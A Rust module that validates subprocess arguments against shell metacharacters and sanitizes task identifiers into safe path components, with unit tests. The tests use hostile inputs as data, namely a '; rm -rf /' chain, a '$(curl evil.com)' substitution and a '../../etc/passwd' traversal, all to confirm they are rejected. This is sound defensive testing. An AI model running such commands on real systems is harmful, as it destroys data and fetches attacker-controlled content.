//! Defense-in-depth argument validation for subprocess invocations.
//!
//! Every agent/git subprocess in this crate is launched via
//! `Command::new(program).arg(..)`, which never invokes a shell, so
//! metacharacters in an argument can't chain commands. Agent binaries are
//! still configured from a TOML file an operator controls, so this module
//! catches the obviously-wrong case (a misconfigured argument template that
//! embeds shell syntax) before it reaches `Command`.

const INJECTION_CHARACTERS: &[char] = &[';', '|', '&', '`', '$', '(', ')', '\n', '\r'];

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("dangerous character '{character}' at position {position} in: {input_preview}")]
pub struct ArgValidationError {
    pub character: char,
    pub position: usize,
    pub input_preview: String,
}

/// Reject an argument containing injection-class shell metacharacters.
pub fn validate_arg(arg: &str) -> Result<(), ArgValidationError> {
    for (pos, ch) in arg.chars().enumerate() {
        if INJECTION_CHARACTERS.contains(&ch) {
            return Err(ArgValidationError {
                character: ch,
                position: pos,
                input_preview: if arg.len() > 100 { format!("{}...", &arg[..100]) } else { arg.to_string() },
            });
        }
    }
    Ok(())
}

/// Replace anything but alphanumerics/`-`/`_`/`.` with `_`, for turning a
/// workflow/task id into a filesystem path component.
pub fn sanitize_identifier(input: &str) -> String {
    input
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.' { c } else { '_' })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn validate_arg_rejects_command_chaining() {
        assert!(validate_arg("normal prompt text").is_ok());
        assert!(validate_arg("; rm -rf /").is_err());
        assert!(validate_arg("$(curl evil.com)").is_err());
        assert!(validate_arg("a | b").is_err());
    }

    #[test]
    fn sanitize_identifier_strips_path_traversal() {
        assert_eq!(sanitize_identifier("../../etc/passwd"), "______etc_passwd");
        assert_eq!(sanitize_identifier("task-1_final.v2"), "task-1_final.v2");
    }
}
